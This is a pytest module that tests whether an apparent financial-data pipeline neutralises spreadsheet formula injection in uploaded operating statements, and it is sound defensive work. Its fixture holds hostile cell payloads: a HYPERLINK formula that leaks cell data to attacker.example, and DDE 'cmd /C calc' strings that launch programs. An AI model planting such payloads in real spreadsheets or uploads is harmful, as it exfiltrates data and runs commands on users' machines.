"""Formula injection through an uploaded statement: an entity name and labels that start with `=`, `+`, `-`
or `@` go upload → sensor → extraction run → IES marts (dbt) → report.xlsx / report.csv, and come out as
text a spreadsheet shows, never as formulas; amounts stay numbers, negative ones included."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass

import dagster as dg
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from brainops.exports import FORMULA_TRIGGERS
from serving.app import create_app
from tests.ies_pipeline.conftest import Keys, make_env, make_keys, run, tick, upload

ENTITY_NAMES = {
    "=": '=HYPERLINK("http://attacker.example/?leak="&C9,"Maple Court Apartments")',
    "+": "+Maple Court cmd|' /C calc'!A0",
    "-": "-Maple Court 2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0 Maple Court",
}
LABELS = ["=Rental income", "+Other income", "-Property taxes", "@Repairs and maintenance"]


def hostile_statement(trigger: str) -> bytes:
    """A property operating statement whose title and line labels each start with a formula trigger (and one
    label holds a control character, which the workbook drops rather than failing)."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in ([ENTITY_NAMES[trigger]], ["Statement of Operations"], ["Line item", "FY2024", "FY2023"],
                [LABELS[0], "1000", "900"], ["Vacancy loss", "-50", "-40"], [LABELS[1], "50", "40"],
                ["Total income", "1000", "900"], [LABELS[2], "300", "280"], [LABELS[3], "200", "150"],
                ["Insurance\x07", "100", "90"],  # a control character XLSX cannot hold
                ["Total operating expenses", "600", "520"], ["Net operating income", "400", "380"]):
        writer.writerow(row)
    return out.getvalue().encode()


@dataclass
class Hostile:
    client: TestClient
    keys: Keys
    ids: dict[str, str]  # trigger -> document id


@pytest.fixture(scope="module")
def hostile(pg_server: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    from tests.conftest import _create_database, _drop_database

    url = _create_database(pg_server, "brainops_test_ies_injection")
    with pytest.MonkeyPatch.context() as mp, dg.instance_for_test() as instance:
        mp.setenv("BRAINOPS_WAREHOUSE_URL", url)
        make_env(tmp_path_factory.mktemp("ies-injection"), mp)
        keys = make_keys(url)
        with TestClient(create_app(url)) as client:
            ids = {}
            for trigger in ENTITY_NAMES:
                response = upload(client, keys.h("applicant"), f"{trigger}statement.csv", hostile_statement(trigger))
                assert response.status_code == 202, response.text
                ids[trigger] = response.json()["document_id"]
            first = tick(instance, url, None)
            assert sorted(r.partition_key for r in first.run_requests) == sorted(ids.values())
            assert all(run(instance, request, url).success for request in first.run_requests)
            (refresh,) = tick(instance, url, first.cursor).run_requests
            assert run(instance, refresh, url).success
            yield Hostile(client, keys, ids)
    _drop_database(pg_server, "brainops_test_ies_injection")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("trigger", list(ENTITY_NAMES))
def test_report_xlsx_has_no_formula_and_no_live_text(hostile: Hostile, trigger: str) -> None:
    doc = hostile.ids[trigger]
    response = hostile.client.get(f"/api/v1/ies/{doc}/report.xlsx", headers=hostile.keys.h("applicant"))
    assert response.status_code == 200, response.text
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if t.startswith(FORMULA_TRIGGERS)] == []
    # The hostile text is there, shown as text.
    spread = book["Spread"]
    assert spread["A1"].value == "'" + ENTITY_NAMES[trigger] and spread["A1"].data_type == "s"
    for label in LABELS:
        assert any(t.startswith(f"'{label} (") for t in texts), label
    assert any(t.startswith("Insurance (") for t in texts)
    # Amounts stay numbers: the vacancy loss is a negative number cell, not text.
    (vacancy,) = [row for row in spread.iter_rows() if row[1].value == "vacancy_credit_loss"]
    assert [(c.data_type, c.value) for c in vacancy[2:4]] == [("n", -50.0), ("n", -40.0)]


@pytest.mark.parametrize("trigger", list(ENTITY_NAMES))
def test_report_csv_has_no_live_text(hostile: Hostile, trigger: str) -> None:
    doc = hostile.ids[trigger]
    response = hostile.client.get(f"/api/v1/ies/{doc}/report.csv", headers=hostile.keys.h("applicant"))
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    fields = [field for row in rows for field in row]
    # Only numbers may start with a trigger ('-50.00'); no text does.
    assert [f for f in fields if f.startswith(FORMULA_TRIGGERS) and not _is_number(f)] == []
    sources = [row[-1] for row in rows[1:]]
    for label in LABELS:
        assert any(s.startswith(f"'{label} (") for s in sources), (label, sources)
    by_key = {row[1]: row for row in rows[1:]}
    assert by_key["vacancy_credit_loss"][3:5] == ["-50.00", "-40.00"]
